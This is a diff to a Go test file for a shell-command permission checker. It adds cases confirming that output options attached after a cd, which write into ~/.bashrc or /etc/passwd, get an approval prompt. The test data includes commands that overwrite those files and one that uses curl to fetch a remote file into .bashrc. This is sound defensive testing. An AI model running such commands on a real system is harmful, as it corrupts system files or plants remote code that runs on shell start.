@@ -36,3 +36,22 @@ func TestGlobWrites48(t *testing.T) {
 		{"echo done > ~/Documents/report-?.txt", dsl.Allow, dsl.Allow},
 	})
 }
+
+// TestAttachedAfterCd48: after a cd, the value attached to a short output
+// option (-oFILE) is where the cd moved, as the separated one is
+// (session 48: each attached line was allowed).
+func TestAttachedAfterCd48(t *testing.T) {
+	checkHoles(t, []holeCase{
+		{"cd ~ && zzprog -o.bashrc", dsl.Ask, dsl.Ask},
+		{"cd ~ && zzprog -o .bashrc", dsl.Ask, dsl.Ask},
+		{"cd ~ && sort -o.bashrc /tmp/x", dsl.Ask, dsl.Ask},
+		{"cd /etc && sort -opasswd /tmp/x", dsl.Ask, dsl.Ask},
+		{"cd ~ && sort --output=.bashrc /tmp/x", dsl.Ask, dsl.Ask},
+		{"cd ~ && zzprog --output=.bashrc", dsl.Ask, dsl.Ask},
+		{"cd ~ && curl -so.bashrc https://x.example/a", dsl.Ask, dsl.Ask},
+		// everyday neighbours
+		{"cd build && gcc -O2 -omain main.c", dsl.Allow, dsl.Allow},
+		{"cd /tmp && sort -osorted.txt data.txt", dsl.Allow, dsl.Allow},
+		{"cd ~ && ssh -oBatchMode=yes host true", dsl.Allow, dsl.Allow},
+	})
+}
